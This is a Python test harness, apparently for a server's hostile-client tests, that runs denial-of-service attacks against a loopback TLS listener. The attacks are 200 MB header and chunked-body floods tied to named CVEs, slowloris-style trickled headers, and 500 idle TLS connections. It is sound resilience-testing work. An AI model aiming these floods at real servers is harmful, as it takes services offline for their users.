#!/usr/bin/env python3
"""Attacks on central's public listener by a client without a certificate (tst_hostile.cpp).

Usage: hostile.py MODE PORT SOURCE
  header   one header line of 200 MB without a newline (CVE-2025-53628 in cpp-httplib 0.11)
  chunked  a chunked body of 200 MB to /v1/enroll (CVE-2025-46728)
  slow     64 connections, each sending one header line a second and never finishing
  idle     500 TLS connections that finish the handshake and then send nothing
Every connection comes from SOURCE (a loopback address such as 127.0.0.2). Prints "ready" once
the attack is under way, then keeps it up until standard input closes (or it has nothing left to
send), then prints "done" with what it managed.
"""
import socket
import ssl
import sys
import threading
import time

MB = 1024 * 1024


def tls_context():
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE  # the attacker does not care who answers
    return ctx


def connect(port, source, timeout=10.0):
    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    raw.settimeout(timeout)
    raw.bind((source, 0))
    raw.connect(("127.0.0.1", port))
    return raw


def tls(port, source, timeout=10.0):
    return tls_context().wrap_socket(connect(port, source, timeout), server_hostname="localhost")


def say(text):
    sys.stdout.write(text + "\n")
    sys.stdout.flush()


stop = threading.Event()


def wait_for_stdin_close():
    sys.stdin.read()
    stop.set()


def flood(port, source, head, piece, total):
    sent = 0
    try:
        s = tls(port, source)
        s.sendall(head)
        say("ready")
        while sent < total and not stop.is_set():
            s.sendall(piece)
            sent += len(piece)
    except (OSError, ssl.SSLError) as e:
        say("refused after %d MB: %s" % (sent // MB, type(e).__name__))
    return sent


def header(port, source):
    head = b"POST /v1/enroll HTTP/1.1\r\nHost: localhost\r\nX-Flood: "
    sent = flood(port, source, head, b"a" * MB, 200 * MB)
    say("done header %d MB" % (sent // MB))


def chunked(port, source):
    head = (b"POST /v1/enroll HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n")
    piece = b"%x\r\n" % MB + b"{" * MB + b"\r\n"
    sent = flood(port, source, head, piece, 200 * MB)
    say("done chunked %d MB" % (sent // MB))


def held(port, source, count, body):
    """count connections, each running body(socket) in its own thread until stop."""
    opened = []
    lock = threading.Lock()

    def one(i):
        try:
            s = connect(port, source, 30.0)
            with lock:
                opened.append(s)
            body(i, s)
        except (OSError, ssl.SSLError):
            pass

    threads = [threading.Thread(target=one, args=(i,), daemon=True) for i in range(count)]
    for t in threads:
        t.start()
    return threads, opened


def slow(port, source):
    count = 64
    handshakes = [0]
    lock = threading.Lock()

    def body(i, raw):
        s = tls_context().wrap_socket(raw, server_hostname="localhost")
        with lock:
            handshakes[0] += 1
        s.sendall(b"GET /v1/slots HTTP/1.1\r\nHost: localhost\r\n")
        n = 0
        while not stop.wait(1.0):
            s.sendall(b"X-Slow-%d: x\r\n" % n)
            n += 1

    threads, opened = held(port, source, count, body)
    stop.wait(1.5)  # the connections are open and sending
    say("ready")
    stop.wait()
    say("done slow %d connections, %d handshakes" % (len(opened), handshakes[0]))


def idle(port, source):
    count = 500
    handshakes = [0]
    lock = threading.Lock()

    def body(i, raw):
        s = tls_context().wrap_socket(raw, server_hostname="localhost")
        with lock:
            handshakes[0] += 1
        stop.wait()
        s.close()

    threads, opened = held(port, source, count, body)
    for _ in range(100):  # up to 5 s for the handshakes (time.sleep fails under libfaketime)
        with lock:
            if handshakes[0] >= count:
                break
        stop.wait(0.05)
    say("ready %d handshakes" % handshakes[0])
    stop.wait()
    say("done idle %d connections, %d handshakes" % (len(opened), handshakes[0]))


def main():
    mode, port, source = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    threading.Thread(target=wait_for_stdin_close, daemon=True).start()
    {"header": header, "chunked": chunked, "slow": slow, "idle": idle}[mode](port, source)


if __name__ == "__main__":
    main()
